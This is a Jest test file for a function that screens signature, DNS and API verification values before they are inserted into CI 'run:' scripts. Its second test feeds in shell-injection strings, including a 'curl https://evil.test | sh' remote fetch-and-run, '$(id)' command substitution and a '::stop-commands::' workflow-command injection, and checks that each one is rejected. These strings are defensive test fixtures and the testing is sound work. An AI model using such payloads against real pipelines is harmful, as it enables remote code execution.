// Signature outputs end up inside `run:` scripts: only values safe to paste there are passed on.
import { describe, expect, it } from '@jest/globals'
import { MemoryLog } from '../../__fixtures__/memory-log.js'
import { signatureOutputs } from '../../src/report/signatures.js'

describe('signature outputs', () => {
  it('passes tokens, DNS names, base64 values and paths through unchanged', () => {
    const log = new MemoryLog()
    const out = signatureOutputs(
      {
        status: 'NotVerified',
        url: 'https://pr-7.example.test',
        file: 'a1b2c3d4e5f6',
        dns: { type: 'TXT', name: '_verify.pr-7.example.test', value: 'dG9rZW4+Lz0=' },
        api: { path: '/.well-known/verify-7', value: 'v=1:abc' }
      },
      log
    )
    expect(out).toEqual({
      'signature-status': 'NotVerified',
      'file-signature': 'a1b2c3d4e5f6',
      'dns-record-name': '_verify.pr-7.example.test',
      'dns-record-value': 'dG9rZW4+Lz0=',
      'api-signature-path': '/.well-known/verify-7',
      'api-signature-value': 'v=1:abc'
    })
    expect(log.lines).toEqual([])
  })

  it('leaves out a value that would inject into a script, and says which', () => {
    const log = new MemoryLog()
    const out = signatureOutputs(
      {
        status: 'NotVerified',
        url: 'https://pr-7.example.test',
        file: 'x"; curl https://evil.test | sh; "',
        dns: { type: 'TXT', name: 'ok.example.test', value: '$(id)\n::stop-commands::x' }
      },
      log
    )
    expect(out['file-signature']).toBeUndefined()
    expect(out['dns-record-value']).toBeUndefined()
    expect(out['dns-record-name']).toBe('ok.example.test')
    expect(log.text('warning')).toMatch(/file-signature .*unsafe/)
    expect(log.text('warning')).toMatch(/dns-record-value .*unsafe/)
    expect(log.text()).not.toContain('curl')
  })
})
